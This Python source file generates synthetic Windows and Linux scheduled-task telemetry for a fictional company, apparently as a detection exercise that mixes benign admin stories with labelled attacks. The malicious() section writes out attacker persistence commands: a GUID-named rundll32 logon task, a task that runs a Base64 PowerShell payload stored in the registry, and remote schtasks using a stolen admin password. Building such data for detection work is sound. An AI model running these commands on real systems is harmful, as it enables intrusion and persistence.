def check_rubric():
    if CARRIED is None:
        return
    for rule, fits in NOTE_FIT.items():
        for n, _, _ in fits:
            if n not in CARRIED.get(rule, set()):
                sys.exit("rubric error: %s does not carry t1053-%02d" % (rule, n))
        if not fits and CARRIED.get(rule) and rule not in ("Interactive AT Job",
                                                           "HackTool - Default PowerSploit/Empire Scheduled Task Creation",
                                                           "Scheduled Task Executing Encoded Payload from Registry"):
            sys.exit("rubric error: %s carries notes but the rubric lists none" % rule)


# ---------------------------------------------------------------------------------------------- stories
def user_of(host):
    return "%s\\%s" % (DOMAIN, OWNER[host])


def com_initiator(image, cmd, user, parent="services.exe"):
    return dict(image=image, cmd=cmd, user=user, pid=1000 + int(hid("ci", image, cmd, user, n=4), 16) % 30000,
                parent=parent)


def benign_office():
    # MECM deploys the in-house ShopView client; its MSI registers a SYSTEM refresh task.
    sc = "MECM deploys Corvane ShopView 3.2; the MSI custom action registers a SYSTEM daily cache-refresh task"
    for i, h in enumerate(rng.sample(HQ_WS + WB_WS, 10)):
        t = at(1 + i // 6, 10 + i % 6, rng.randrange(60))
        schtasks_create(t, h, SYSTEM,
                        '"C:\\Windows\\System32\\schtasks.exe" /Create /RU SYSTEM /SC DAILY /ST 06:15 /TN '
                        '"Corvane\\ShopView Cache Refresh" /TR "\\"C:\\Program Files\\Corvane\\ShopView\\svcache.exe'
                        '\\" /refresh" /F',
                        MSIEXEC, "C:\\Windows\\syswow64\\MsiExec.exe -Embedding %s E Global\\MSI0000"
                        % hid("msi", h, n=32).upper(), "benign", "deploy", sc, gparent="msiexec.exe")
    # PDQ Deploy patch-night package: a one-time SYSTEM reboot task on servers, removed the next morning.
    sc = "PDQ Deploy 'Patch Night' package schedules a one-time SYSTEM reboot task after the October updates"
    sc2 = "PDQ Deploy 'Patch Night cleanup' step removes the one-time reboot task"
    pdq = "CORVANE\\svc-pdqdeploy"
    for i, h in enumerate(["cv-lp-fs01", "cv-lp-sql01", "cv-lp-erp-app01", "cv-lp-erp-app02", "cv-lp-print01",
                           "cv-lp-rds01", "cv-lp-rds02"]):
        t = at(8, 21, 5 + 3 * i)
        step = "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\Patch Night - Step 3.cmd"
        schtasks_create(t, h, pdq, 'schtasks.exe /Create /TN "\\Corvane\\PatchReboot" /TR "shutdown.exe /r /f /t 600 '
                        '/c \\"Corvane patch reboot (PDQ)\\"" /SC ONCE /ST 02:30 /RU SYSTEM /F', CMD,
                        'C:\\Windows\\system32\\cmd.exe /c ""%s""' % step, "benign", "mgmt", sc,
                        gparent="PDQDeployRunner-1.exe", cwd="C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\")
        t2 = at(9, 8, 10 + 2 * i)
        proc(t2, h, pdq, SCHTASKS, 'schtasks.exe /Delete /TN "\\Corvane\\PatchReboot" /F', CMD,
             'C:\\Windows\\system32\\cmd.exe /c ""C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\'
             'Patch Night cleanup - Step 1.cmd""', "benign", "mgmt", sc2, gparent="PDQDeployRunner-1.exe")
        task(jitter(t2, 0, 2), h, "deleted", "\\Corvane\\PatchReboot", "shutdown.exe",
             '/r /f /t 600 /c "Corvane patch reboot (PDQ)"', SYSTEM, "benign", "mgmt", sc2, sched="once", by=pdq)
    # Admin work from the PAWs.
    adm_cmd = "C:\\Windows\\System32\\cmd.exe"
    sc = "ERP admin creates the nightly MRP run on the ERP application server from a PAW, then test-runs it"
    t = at(2, 14, 12)
    schtasks_create(t, "cv-lp-paw01", "CORVANE\\cva-ptrent",
                    'schtasks /Create /S cv-lp-erp-app02 /RU CORVANE\\svc-erpjobs /RP * /TN "\\Corvane\\ERP\\MRP '
                    'Nightly Run" /TR "D:\\Brightline\\bin\\mrpbatch.exe -profile nightly" /SC DAILY /ST 01:30',
                    adm_cmd, '"C:\\Windows\\System32\\cmd.exe"', "benign", "admin", sc)
    proc(at(2, 14, 19), "cv-lp-paw01", "CORVANE\\cva-ptrent", SCHTASKS,
         'schtasks /Run /S cv-lp-erp-app02 /TN "\\Corvane\\ERP\\MRP Nightly Run"', adm_cmd,
         '"C:\\Windows\\System32\\cmd.exe"', "benign", "admin", sc)
    sc = "Server admin creates an IIS log-purge task (forfiles) on both RDS gateways from a PAW"
    for i, h in enumerate(["cv-lp-rds01", "cv-lp-rds02"]):
        schtasks_create(at(2, 16, 3 + i), "cv-lp-paw02", "CORVANE\\cva-mhughes",
                        'schtasks /Create /S %s /RU SYSTEM /TN "\\Corvane\\Maintenance\\IIS-LogPurge" /TR "forfiles '
                        '/p C:\\inetpub\\logs\\LogFiles /s /m *.log /d -30 /c \\"cmd /c del @path\\"" /SC DAILY /ST 04:00'
                        % h, adm_cmd, '"C:\\Windows\\System32\\cmd.exe"', "benign", "admin", sc)
        for d in range(3, 14):
            run(at(d, 4, 0, rng.randrange(2, 20)), h, "\\Corvane\\Maintenance\\IIS-LogPurge",
                "C:\\Windows\\System32\\forfiles.exe",
                'forfiles /p C:\\inetpub\\logs\\LogFiles /s /m *.log /d -30 /c "cmd /c del @path"', SYSTEM,
                "benign", "admin", "Daily run of the admin's IIS log-purge task (forfiles started by the Task "
                "Scheduler)")
    sc = "Server admin removes a retired FTP pull task from the file server from a PAW"
    proc(at(3, 11, 40), "cv-lp-paw02", "CORVANE\\cva-mhughes", SCHTASKS,
         'schtasks /Delete /S cv-lp-fs01 /TN "\\Corvane\\Old\\FTP-Pull" /F', adm_cmd,
         '"C:\\Windows\\System32\\cmd.exe"', "benign", "admin", sc)
    task(at(3, 11, 40, 2), "cv-lp-fs01", "deleted", "\\Corvane\\Old\\FTP-Pull",
         "C:\\Scripts\\ftp-pull.cmd", "", "CORVANE\\svc-ftp", "benign", "admin", sc, by="CORVANE\\cva-mhughes",
         client_pid=0)
    # DBA imports a task from XML on the SQL server and test-runs it.
    sc = "DBA imports the backup-verification task from XML on the SQL server (console session) and test-runs it"
    h = "cv-lp-sql01"
    p = proc(at(3, 9, 22), h, "CORVANE\\cva-jadeyemi", SCHTASKS,
             'schtasks.exe /Create /XML "C:\\Admin\\Tasks\\SQL-BackupVerify.xml" /TN "\\Corvane\\SQL\\BackupVerify" '
             '/RU CORVANE\\svc-sqlbackup /RP *', PS, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
             "benign", "admin", sc)
    task(at(3, 9, 22, 3), h, "created", "\\Corvane\\SQL\\BackupVerify",
         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "-NoProfile -NonInteractive -File C:\\Admin\\Scripts\\Test-SqlBackups.ps1", "CORVANE\\svc-sqlbackup",
         "benign", "admin", sc, by="CORVANE\\cva-jadeyemi", client_pid=p["pid"], initiator=p)
    proc(at(3, 9, 25), h, "CORVANE\\cva-jadeyemi", SCHTASKS, 'schtasks.exe /Run /TN "\\Corvane\\SQL\\BackupVerify"',
         PS, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', "benign", "admin", sc)
    # TarrowCAM: per-user Inno Setup installer on the CAD workstations, and its updater later.
    sc = "CAM post-processor per-user installer (Inno Setup from %TEMP%) registers its AppData update check"
    for i, h in enumerate(ENG):
        u = OWNER[h]
        tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp\\TarrowCAM-Setup-4.2.1.tmp" % (u, hid("is", h, n=5).upper())
        schtasks_create(at(3 + i // 3, 9 + 2 * (i % 3), rng.randrange(60)), h, user_of(h),
                        '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC DAILY /ST 10:00 /TN "TarrowCAM Update '
                        'Check (%s)" /TR "\\"C:\\Users\\%s\\AppData\\Local\\TarrowCAM\\Update\\tcupdate.exe\\" --check '
                        '--silent"' % (u, u), tmp, '"%s" /SL5="$A0C2A,14289408,832512,C:\\Users\\%s\\Downloads\\'
                        'TarrowCAM-Setup-4.2.1.exe" ' % (tmp, u), "benign", "install", sc, cwd="C:\\Users\\%s\\Downloads\\" % u,
                        gparent="TarrowCAM-Setup-4.2.1.exe")
    sc = "TarrowCAM updater installs 4.2.2 and re-registers its own AppData update-check task"
    for i, h in enumerate(ENG[:4]):
        u = OWNER[h]
        upd = "C:\\Users\\%s\\AppData\\Local\\TarrowCAM\\Update\\tcupdate.exe" % u
        schtasks_create(at(10, 10, 2 + 7 * i), h, user_of(h),
                        '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC DAILY /ST 10:00 /TN "TarrowCAM Update '
                        'Check (%s)" /TR "\\"%s\\" --check --silent"' % (u, upd), upd, '"%s" --check --silent' % upd,
                        "benign", "updater", sc, gparent="svchost.exe")
    # LabelForge print agent on the shipping PCs, pushed by PDQ; its MSI names the watchdog task by a GUID.
    sc = "PDQ Deploy pushes the LabelForge print agent; its MSI registers a GUID-named SYSTEM watchdog every 10 minutes"
    g = "{%s}" % guid("labelforge").upper()
    for i, h in enumerate(SHIP):
        schtasks_create(at(7, 13, 20 + 4 * i), h, SYSTEM,
                        'schtasks.exe /create /tn "%s" /tr "\\"C:\\Program Files (x86)\\LabelForge\\lfwatch.exe\\" '
                        '/watchdog" /sc minute /mo 10 /ru SYSTEM /f' % g, MSIEXEC,
                        "C:\\Windows\\syswow64\\MsiExec.exe -Embedding %s E Global\\MSI0000" % hid("lfmsi", h).upper(),
                        "benign", "deploy", sc, gparent="msiexec.exe")
    # Windows Update handler started by svchost on workstations (ESCU svchost LOLBAS list contains wuauclt).
    sc = "Windows Update starts wuauclt.exe as its update-deployment COM handler (svchost child)"
    for i, h in enumerate(rng.sample(WORKSTATIONS, 9)):
        d = 8 + i % 3
        proc(at(d, 11 + i % 6, rng.randrange(60)), h, SYSTEM, "C:\\Windows\\System32\\wuauclt.exe",
             '"C:\\Windows\\system32\\wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId '
             '%s /RunHandlerComServer' % guid("wu", h), SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s "
             "wuauserv", "benign", "auto", sc)
    sc = "The plotter vendor's daily task re-registers its COM add-in with regsvr32 (svchost child)"
    for d in (4, 7, 8, 9, 10, 11):
        h = ENG[d % 3]
        run(at(d, 8, 45, rng.randrange(50)), h, "\\Corvane\\PlotStation Add-in Repair",
            "C:\\Windows\\System32\\regsvr32.exe",
            'regsvr32.exe /s "C:\\Program Files\\PlotStation\\psaddin64.dll"', SYSTEM, "benign", "updater", sc)
    # COM registrations by vendor updaters and Windows (MDE DeviceEvents, Security/TaskScheduler on IR hosts).
    com = [
        ("\\MicrosoftEdgeUpdateTaskMachineUA", "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
         "/ua /installsource scheduler", "updated", "Microsoft Edge updater refreshes its machine task after a self-update",
         "updater", "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "/svc", "hourly"),
        ("\\Microsoft\\Office\\Office Automatic Updates 2.0",
         "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe",
         "/frequentupdate SCHEDULEDTASK displaylevel=False", "updated",
         "Microsoft 365 Apps Click-to-Run updates its automatic-update task", "updater",
         "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeClickToRun.exe",
         "/service", "daily"),
        ("\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan", "%systemroot%\\system32\\usoclient.exe",
         "StartScan", "updated", "Windows Update Orchestrator reschedules its scan task", "auto",
         "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s UsoSvc", "daily"),
        ("\\Adobe Acrobat Update Task", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe", "",
         "created", "MECM installs Adobe Acrobat Reader; the installer registers Adobe's update task", "deploy",
         "C:\\Windows\\System32\\msiexec.exe", "/V", "daily"),
    ]
    hosts = sorted(IR_HOSTS - {"cv-lp-fs01", "cv-lp-erp-app01"}) + rng.sample(HQ_WS, 5)
    for k, (name, command, args, op, sc, cause, iimg, icmd, sched) in enumerate(com):
        for j, h in enumerate(hosts[:3 + k % 3] if k != 2 else hosts[:6]):
            d = (8 if k == 2 else 1 + k * 2) + j % 2
            run_as = SYSTEM
            task(at(d, 9 + j, rng.randrange(60)), h, op, name, command, args, run_as, "benign", cause, sc,
                 sched=sched, author="Microsoft Corporation" if "Microsoft" in command or "usoclient" in command
                 else "Adobe Systems Incorporated", by="%s\\%s$" % (DOMAIN, h.upper()),
                 initiator=com_initiator(iimg, '"%s" %s' % (iimg, icmd), SYSTEM))
    sc = "OneDrive registers its per-user standalone update task at first sign-in"
    for j, h in enumerate(sorted(IR_HOSTS - {"cv-lp-fs01", "cv-lp-erp-app01"})):
        u = OWNER[h]
        sid = sid_of(u)
        od = "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe" % u
        task(at(1 + j, 8, 40 + j), h, "created", "\\OneDrive Standalone Update Task-%s" % sid, od, "",
             "%s\\%s" % (DOMAIN, u), "benign", "updater", sc, sched="daily", author="Microsoft Corporation",
             by=user_of(h), initiator=com_initiator(
                 "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" % u, "/background", user_of(h),
                 "explorer.exe"))
    # Task runs on the IR hosts (TaskScheduler 200/201 + Sysmon 1 child).
    sc = "Daily runs of the backup-verification PowerShell task on the SQL server"
    sc = "Daily runs of Adobe's update task"
    for d in (3, 5, 7, 9, 11):
        for h in ("cv-lp-ws0105", "cv-eng-03"):
            run(at(d, 9, rng.randrange(60)), h, "\\Adobe Acrobat Update Task",
                "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe",
                '"C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"', SYSTEM, "benign", "updater", sc)
    sc = "Nightly runs of the ERP file-drop import task on the ERP application server"
    for d in range(0, 14, 2):
        run(at(d, 1, 30, rng.randrange(30)), "cv-lp-erp-app01", "\\Corvane\\ERP\\EDI Inbound Import",
            "D:\\Brightline\\bin\\ediimport.exe", '"D:\\Brightline\\bin\\ediimport.exe" -queue inbound',
            "CORVANE\\svc-erpjobs", "benign", "admin", sc)
    sc = "Weekly runs of the file server's quota report task (admin-made)"
    for d in (6, 13):
        run(at(d, 6, 0, 5), "cv-lp-fs01", "\\Corvane\\Maintenance\\Quota Report", PS,
            'powershell.exe -NoProfile -File C:\\Scripts\\Get-QuotaReport.ps1', SYSTEM, "benign", "admin", sc)


def benign_ot():
    sc = "OT engineer installs the historian collector; setup registers an elevated SYSTEM start-up watchdog"
    h = "cv-wb-hist01"
    schtasks_create(at(2, 10, 41), h, "CORVANE\\cva-rbell",
                    'schtasks.exe /Create /TN "Ostrander\\Collector Watchdog" /TR "\\"C:\\Program Files\\Ostrander\\'
                    'Collector\\ocwatch.exe\\"" /SC ONSTART /RU SYSTEM /RL HIGHEST /F',
                    "D:\\Installers\\OstranderCollector-9.1\\setup.exe",
                    '"D:\\Installers\\OstranderCollector-9.1\\setup.exe" /S /v"/qn"', "benign", "install", sc)
    sc = "OT engineer schedules the nightly PLC project backup (robocopy to the historian share)"
    for i, h in enumerate(["cv-wb-otjump01", "cv-tm-otjump01"]):
        schtasks_create(at(3, 15, 10 + 6 * i), h, "CORVANE\\cva-snaidoo",
                        'schtasks /create /tn "OT\\PLC Project Backup" /tr "robocopy D:\\PLC-Projects '
                        '\\\\cv-wb-hist01\\plcbackup$\\%%COMPUTERNAME%% /MIR /R:1 /W:5 /LOG:D:\\Logs\\plcbackup.log" '
                        '/sc daily /st 23:30 /ru CORVANE\\svc-otbackup /rp', CMD, '"C:\\Windows\\system32\\cmd.exe"',
                        "benign", "admin", sc)
    sc = "OT engineer upgrades the HMI runtime (installer from %TEMP%); it registers a SYSTEM cscript log-rotation task"
    for i, h in enumerate(["cv-tm-hmi01", "cv-tm-hmi02"]):
        setup = "C:\\Users\\cva-rbell\\AppData\\Local\\Temp\\HalvorsenRT_7.4\\setup.exe"
        schtasks_create(at(8, 10 + i, 14), h, "CORVANE\\cva-rbell",
                        'schtasks.exe /create /tn "Halvorsen\\LogRotate" /tr "cscript.exe //nologo //B \\"C:\\ProgramData'
                        '\\Halvorsen\\Scripts\\logrotate.vbs\\"" /sc weekly /d SUN /st 03:00 /ru SYSTEM /f', setup,
                        '"%s" /quiet' % setup, "benign", "install", sc)
    sc = "Weekly runs of the HMI runtime's cscript log rotation"
    for h in OT[2:8]:
        for d in (6, 13):
            if d == 6 and h in ("cv-tm-hmi01", "cv-tm-hmi02"):
                continue
            run(at(d, 3, 0, rng.randrange(1, 30)), h, "\\Halvorsen\\LogRotate", "C:\\Windows\\System32\\cscript.exe",
                'cscript.exe //nologo //B "C:\\ProgramData\\Halvorsen\\Scripts\\logrotate.vbs"', SYSTEM, "benign",
                "auto", sc)
    sc = "Daily runs of the MES line-status mailer (wscript) on the Weyburn MES server"
    for d in range(0, 14):
        run(at(d, 6, 5, rng.randrange(1, 30)), "cv-wb-mes01", "\\Brightline MES\\Line Status Mail",
            "C:\\Windows\\System32\\wscript.exe", 'wscript.exe //B "D:\\BrightlineMES\\scripts\\linestatus.vbs"',
            "CORVANE\\svc-mes", "benign", "auto", sc)
    sc = "The MES service re-registers its nightly export task (cmd script in ProgramData) after the service restart"
    for i, h in enumerate(["cv-wb-mes01", "cv-tm-mes01"]):
        task(at(8, 22, 15 + i), h, "updated" if i == 0 else "created", "\\Brightline MES\\Nightly Export", CMD,
             '/c "C:\\ProgramData\\Brightline\\MES\\export.cmd"', SYSTEM, "benign", "updater", sc,
             author="Brightline", by="%s\\%s$" % (DOMAIN, h.upper()))
    sc = "OT engineer schedules a maintenance reboot of the HMIs from the jump host (remote schtasks)"
    for i, h in enumerate(["cv-wb-hmi01", "cv-wb-hmi02", "cv-wb-hmi03", "cv-wb-hmi04"]):
        schtasks_create(at(9, 16, 30 + i), "cv-wb-otjump01", "CORVANE\\cva-rbell",
                        'schtasks /create /s %s /tn "OT\\Maintenance Reboot" /tr "shutdown /r /t 60" /sc once /st 05:00 '
                        '/sd 10/10/2027 /ru SYSTEM /f' % h, CMD, '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", sc)
    sc = "OT engineer adds a daily historian archive-check task (PowerShell) on the historian"
    schtasks_create(at(10, 11, 2), "cv-wb-hist01", "CORVANE\\cva-rbell",
                    'schtasks /create /tn "Ostrander\\Archive Check" /tr "powershell.exe -NoProfile -ExecutionPolicy '
                    'Bypass -File D:\\Scripts\\Test-ArchiveGaps.ps1" /sc daily /st 05:45 /ru SYSTEM', CMD,
                    '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", sc)


def salt_write(t, host, path, sc, key="cron_files", cause="cm"):
    tmp = "__salt.tmp.%s" % hid("salt", host, path, n=8)
    e = lx(t, host, "root", "benign", cause, sc, [], "/usr/bin/python3.9" if LINUX[host].startswith("rhel") else
           "/usr/bin/python3.10" if LINUX[host] == "ubuntu" else "/usr/bin/python3.11", key, syscall="rename",
           paths=[("/tmp/", "PARENT"), (path.rsplit("/", 1)[0] + "/", "PARENT"), ("/tmp/" + tmp, "DELETE"),
                  (path, "CREATE")], cwd="/", auid="unset", uid="root")
    e["comm"] = "salt-minion"
    return e


def benign_linux():
    sc = "Salt highstate (corvane.logship) installs /etc/cron.d/corvane-logship on every Linux server"
    for i, h in enumerate(sorted(LINUX)):
        salt_write(at(1, 10, 2 + i), h, "/etc/cron.d/corvane-logship", sc)
    sc = "Salt highstate restarts filebeat after changing its configuration"
    for i, h in enumerate(sorted(LINUX)):
        e = lx(at(1, 10, 12 + i), h, "root", "benign", "cm", sc, ["systemctl", "restart", "filebeat.service"],
               "/usr/bin/systemctl", "systemctl_exec", cwd="/", auid="unset", uid="root")
    sc = "Salt state manages /etc/sudoers.d/90-corvane-ops (ops group sudo rules)"
    for i, h in enumerate(sorted(LINUX)[:4]):
        salt_write(at(5, 9, 30 + i), h, "/etc/sudoers.d/90-corvane-ops", sc, key="sudoers")
    sc = "dnf-automatic applies the weekly updates: cronie's package update rewrites /etc/cron.d/0hourly"
    sc2 = "dnf-automatic applies the weekly updates: the cronie scriptlet restarts crond"
    for i, h in enumerate([h for h in sorted(LINUX) if LINUX[h].startswith("rhel")]):
        t = at(9, 6, 12 + 3 * i)
        e = lx(t, h, "root", "benign", "pkg", sc, [], "/usr/bin/rpm", "cron_files", syscall="rename",
               paths=[("/etc/cron.d/", "PARENT"), ("/etc/cron.d/", "PARENT"),
                      ("/etc/cron.d/0hourly;%s" % hid("rpm", h, n=8), "DELETE"), ("/etc/cron.d/0hourly", "CREATE")],
               cwd="/", auid="unset", uid="root")
        e["comm"] = "dnf-automatic"
        lx(jitter(t, 3, 9), h, "root", "benign", "pkg", sc2, ["/usr/bin/systemctl", "try-restart", "crond.service"],
           "/usr/bin/systemctl", "systemctl_exec", cwd="/", auid="unset", uid="root")
    sc = "DBA edits the postgres crontab (crontab -e via sudo) to move the nightly vacuum job"
    h = "cv-lx-erpdb01"
    t = at(2, 15, 4)
    lx(t, h, "cva-jadeyemi", "benign", "admin", sc, ["crontab", "-e"], "/usr/bin/crontab", "cron_exec",
       cwd="/var/lib/pgsql", uid="postgres")
    lx(t + dt.timedelta(seconds=71), h, "cva-jadeyemi", "benign", "admin", sc, ["crontab", "-e"], "/usr/bin/crontab",
       "cron_spool", syscall="rename", paths=[("/var/spool/cron/", "PARENT"), ("/var/spool/cron/", "PARENT"),
                                              ("#tmp.%s" % hid("ct", h, n=6), "DELETE"), ("postgres", "CREATE")],
       cwd="/var/lib/pgsql", uid="postgres")
    sc = "Linux admin edits /etc/cron.d/edi-pull with vim to change the supplier pull interval"
    h = "cv-lx-edi01"
    t = at(4, 10, 15)
    lx(t, h, "cva-mhughes", "benign", "admin", sc, ["vim", "/etc/cron.d/edi-pull"], "/usr/bin/vim", "cron_exec_edit",
       cwd="/root", uid="root")
    lx(t + dt.timedelta(seconds=48), h, "cva-mhughes", "benign", "admin", sc, ["vim", "/etc/cron.d/edi-pull"],
       "/usr/bin/vim", "cron_files", syscall="rename", paths=[("/etc/cron.d/", "PARENT"), ("/etc/cron.d/", "PARENT"),
                                                            ("edi-pull~", "CREATE"), ("edi-pull", "CREATE")],
       cwd="/root", uid="root")
    sc = "Linux admin schedules a one-off Grafana restart for the maintenance window with at"
    h = "cv-lx-grafana01"
    lx(at(7, 17, 5), h, "cva-ptrent", "benign", "admin", sc, ["at", "-f", "/home/cva-ptrent/grafana-restart.sh",
                                                              "22:00"], "/usr/bin/at", "at_exec",
       cwd="/home/cva-ptrent", uid="root")
    lx(at(7, 22, 0, 1), h, "cva-ptrent", "benign", "admin", "The at job restarts grafana-server at 22:00",
       ["systemctl", "restart", "grafana-server"], "/usr/bin/systemctl", "systemctl_exec", cwd="/root", uid="root")
    sc = "DBA restarts PostgreSQL after changing shared_buffers"
    lx(at(9, 19, 30), "cv-lx-erpdb01", "cva-jadeyemi", "benign", "admin", sc,
       ["systemctl", "restart", "postgresql-15"], "/usr/bin/systemctl", "systemctl_exec", uid="root")
    sc = "Linux admin adds a Mosquitto retained-message backup timer and enables it"
    h = "cv-lx-mqtt01"
    t = at(10, 14, 20)
    for k, unit in enumerate(("mosquitto-backup.service", "mosquitto-backup.timer")):
        lx(t + dt.timedelta(seconds=40 * k), h, "cva-ptrent", "benign", "admin", sc, ["vim", "/etc/systemd/system/" + unit],
           "/usr/bin/vim", "systemd_units", syscall="openat", paths=[("/etc/systemd/system/", "PARENT"),
                                                                     ("/etc/systemd/system/" + unit, "CREATE")],
           uid="root")
    lx(t + dt.timedelta(seconds=95), h, "cva-ptrent", "benign", "admin", sc,
       ["systemctl", "enable", "--now", "mosquitto-backup.timer"], "/usr/bin/systemctl", "systemctl_exec", uid="root")
    sc = "GitLab admin adds the nightly gitlab-backup job to root's crontab (crontab -e)"
    h = "cv-lx-gitlab01"
    t = at(3, 16, 44)
    lx(t, h, "cva-mhughes", "benign", "admin", sc, ["crontab", "-e"], "/usr/bin/crontab", "cron_exec", uid="root")
    lx(t + dt.timedelta(seconds=55), h, "cva-mhughes", "benign", "admin", sc, ["crontab", "-e"], "/usr/bin/crontab",
       "cron_spool", syscall="rename", paths=[("/var/spool/cron/crontabs/", "PARENT"),
                                              ("/var/spool/cron/crontabs/", "PARENT"),
                                              ("tmp.%s" % hid("gl", n=6), "DELETE"), ("root", "CREATE")], uid="root")
    sc = "Checkmk agent plugin lists root's crontab for the inventory (every 4 hours)"
    for d in range(0, 14, 3):
        lx(at(d, 4, 0, 12), "cv-lx-checkmk01", "root", "benign", "auto", sc, ["crontab", "-l"], "/usr/bin/crontab",
           "cron_exec", auid="unset", uid="root", cwd="/")
    sc = "Grafana: unattended-upgrades restarts grafana-server after the package update (needrestart)"
    lx(at(10, 6, 41), "cv-lx-grafana01", "root", "benign", "pkg", sc, ["systemctl", "restart", "grafana-server.service"],
       "/usr/bin/systemctl", "systemctl_exec", auid="unset", uid="root", cwd="/")


def malicious():
    # 1. Phishing on an HQ workstation: IcedID-style DLL loader persists with a GUID-named logon task.
    h = "cv-lp-ws0117"
    u = OWNER[h]
    sc = "Phishing (invoice ISO): IcedID-style rundll32 loader registers a GUID-named logon task for its DLL"
    g = "{%s}" % guid("icedid", h).upper()
    dll = "C:\\Users\\%s\\AppData\\Roaming\\%s\\Gumuhe.dll" % (u, "{%s}" % guid("icedir", h).upper())
    schtasks_create(at(1, 11, 23), h, user_of(h),
                    'schtasks.exe /Create /F /TN "%s" /TR "rundll32.exe \\"%s\\",#1 --vo=\\"Ufzoka.dat\\"" /SC ONLOGON'
                    % (g, dll), "C:\\Windows\\System32\\rundll32.exe",
                    'rundll32.exe "C:\\Users\\%s\\AppData\\Local\\Temp\\invoice_0921\\docs.dll",#1' % u, "malicious",
                    "attack", sc, cwd="C:\\Users\\%s\\AppData\\Local\\Temp\\" % u)
    for d in (2, 3):
        run(at(d, 8, 51, 30), h, "\\" + g, "C:\\Windows\\System32\\rundll32.exe",
            'rundll32.exe "%s",#1 --vo="Ufzoka.dat"' % dll, user_of(h), "malicious", "attack",
            "The IcedID-style logon task starts its DLL at sign-in")
    sc = "Second stage on the phished workstation: Qakbot-style task reading a Base64 PowerShell payload from HKCU"
    schtasks_create(at(1, 11, 58), h, user_of(h),
                    'schtasks.exe /Create /F /TN "Xvnwbtkqz" /TR "cmd /c start /min \\"\\" powershell.exe -Command '
                    'IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-ItemProperty '
                    '-Path HKCU:\\SOFTWARE\\Xvnwbtkqz).Wdqbzu)))" /SC MINUTE /MO 30', "C:\\Windows\\System32\\rundll32.exe",
                    'rundll32.exe "%s",#1 --vo="Ufzoka.dat"' % dll, "malicious", "attack", sc)
    for k in range(3):
        run(at(1, 12, 28 + 30 * k), h, "\\Xvnwbtkqz", CMD,
            'cmd /c start /min "" powershell.exe -Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]'
            '::FromBase64String((Get-ItemProperty -Path HKCU:\\SOFTWARE\\Xvnwbtkqz).Wdqbzu)))', user_of(h),
            "malicious", "attack", "Runs of the registry-payload task every 30 minutes")
    # 2. AgentTesla-style stealers on plant office PCs (task XML dropped in %TEMP%).
    sc = "AgentTesla-style stealer from a shipping-notice attachment registers its task from a %TEMP% XML file"
    for d, h in ((3, "cv-wb-ws0204"), (9, "cv-tm-ws0303")):
        u = OWNER[h]
        name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(11))
        exe = "C:\\Users\\%s\\AppData\\Roaming\\%s.exe" % (u, name)
        schtasks_create(at(d, 10, 7), h, user_of(h),
                        '"C:\\Windows\\System32\\schtasks.exe" /Create /TN "Updates\\%s" /XML "C:\\Users\\%s\\AppData\\'
                        'Local\\Temp\\tmp%s.tmp"' % (name, u, hid("tmp", h, n=4).upper()), exe, '"%s"' % exe,
                        "malicious", "attack", sc, command=exe, args="")
    # 3. Stolen admin credentials from the phished workstation: remote tasks on two servers.
    sc = "Attacker on the phished workstation uses the cached admin account cva-tkowalski: remote SYSTEM task at 00:00"
    src = "cv-lp-ws0117"
    for i, tgt in enumerate(["cv-lp-fs01", "cv-lp-erp-app01"]):
        t = at(3, 23, 12 + 6 * i)
        schtasks_create(t, src, user_of(src),
                        'schtasks /create /s %s /u CORVANE\\cva-tkowalski /p "Kestrel#2027" /ru SYSTEM /tn '
                        '"\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start Check" /tr "C:\\Windows\\Temp\\wusvc.exe" '
                        '/sc once /st 00:00 /f' % tgt, CMD, "cmd.exe", "malicious", "attack", sc,
                        gparent="rundll32.exe", author="CORVANE\\cva-tkowalski")
        EVENTS[-1]["user"] = "CORVANE\\cva-tkowalski"
        proc(t + dt.timedelta(seconds=40), src, user_of(src), SCHTASKS,
             'schtasks /run /s %s /u CORVANE\\cva-tkowalski /p "Kestrel#2027" /tn "\\Microsoft\\Windows\\WindowsUpdate\\'
             'Scheduled Start Check"' % tgt, CMD, "cmd.exe", "malicious", "attack", sc, gparent="rundll32.exe")
        run(t + dt.timedelta(seconds=41), tgt, "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start Check",
            "C:\\Windows\\Temp\\wusvc.exe", "C:\\Windows\\Temp\\wusvc.exe", SYSTEM, "malicious", "attack",
            "The attacker's remote task runs its Windows\\Temp payload on the server")
    # 4. Ransomware staging on servers through PsExec (Black Basta-style playbook), contained on Saturday.
